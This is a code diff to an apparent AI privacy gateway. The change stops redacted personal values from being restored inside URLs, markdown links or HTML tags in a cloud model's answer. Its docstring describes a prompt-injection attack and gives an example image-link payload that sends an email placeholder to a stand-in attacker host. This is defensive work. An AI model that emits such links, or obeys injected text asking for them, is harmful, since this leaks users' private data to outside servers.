@@ -4,6 +4,13 @@ Each distinct value gets one placeholder (``[EMAIL_1]``, ``[PHONE_2]``, ...),
 the same everywhere it appears, so the cloud model can still refer to it. The
 placeholders are restored in the answer, also while it streams: a piece that
 ends inside a possible placeholder is held back until the next piece decides it.
+
+A placeholder is restored only where the answer uses it as text, never inside
+something a client may fetch: a URL, a markdown link or image target, an HTML
+tag. A prompt-injected document can ask the cloud model for
+``![](https://evil.example/?q=[EMAIL_1])``; restoring there would make the
+gateway itself write the secret into a link that a markdown client loads. Such
+a placeholder stays as it is.
 """
 
 from __future__ import annotations
@@ -16,6 +23,8 @@ from hybridgate.router.privacy import PersonalDataDetector
 
 _PLACEHOLDER = re.compile(r"\[(?:EMAIL|IBAN|CARD|PHONE|NAME)_\d+\]")
 _LONGEST = len("[EMAIL_999]")
+_CONTEXT = 2048  # how much text before a placeholder decides whether it sits inside a link
+_LINKISH = re.compile(r"://|www\.|\]\(|\b(?:src|href|action|srcset|poster|data|formaction)\s{0,3}=|url\(", re.I)
 NOTE = (
     "Some values in this conversation were replaced by placeholders such as [EMAIL_1] or [NAME_1]. "
     "Keep every placeholder exactly as written wherever you need the value."
@@ -26,12 +35,31 @@ NOTE = (
 class Redaction:
     originals: dict[str, str] = field(default_factory=dict)  # placeholder -> original value
 
-    def restore(self, text: str) -> str:
-        return _PLACEHOLDER.sub(lambda m: self.originals.get(m.group(0), m.group(0)), text)
+    def restore(self, text: str, before: str = "") -> str:
+        """``text`` with its placeholders restored where they are plain text; ``before`` is what preceded it."""
+
+        def one(m: re.Match[str]) -> str:
+            if m.group(0) not in self.originals or in_link((before + text[: m.start()])[-_CONTEXT:]):
+                return m.group(0)
+            return self.originals[m.group(0)]
+
+        return _PLACEHOLDER.sub(one, text)
 
     @property
     def count(self) -> int:
         return len(self.originals)
+
+
+def in_link(before: str) -> bool:
+    """Whether a placeholder that follows ``before`` sits inside a URL, a link or image target, or an HTML tag."""
+    line = before[before.rfind("\n") + 1 :]
+    token = line[max(line.rfind(" "), line.rfind("\t")) + 1 :]
+    if _LINKISH.search(token):
+        return True
+    target = line.rfind("](")
+    if target != -1 and ")" not in line[target + 2 :]:
+        return True  # inside a markdown target, spaces included: [a](<https://x/ y [EMAIL_1]>)
+    return line.rfind("<") > line.rfind(">")  # inside an HTML tag
 
 
 def redact_messages(messages: list[dict[str, Any]], detector: PersonalDataDetector) -> tuple[list[dict[str, Any]], Redaction]:
@@ -66,6 +94,7 @@ class StreamRestorer:
     def __init__(self, redaction: Redaction) -> None:
         self.redaction = redaction
         self._held = ""
+        self._seen = ""  # the answer's raw text so far (its tail), to tell a link from plain text
 
     def feed(self, piece: str) -> str:
         text = self._held + piece
@@ -74,8 +103,13 @@ class StreamRestorer:
             self._held, text = text[cut:], text[:cut]
         else:
             self._held = ""
-        return self.redaction.restore(text)
+        return self._emit(text)
 
     def flush(self) -> str:
         text, self._held = self._held, ""
-        return self.redaction.restore(text)
+        return self._emit(text)
+
+    def _emit(self, text: str) -> str:
+        out = self.redaction.restore(text, self._seen)
+        self._seen = (self._seen + text)[-_CONTEXT:]
+        return out
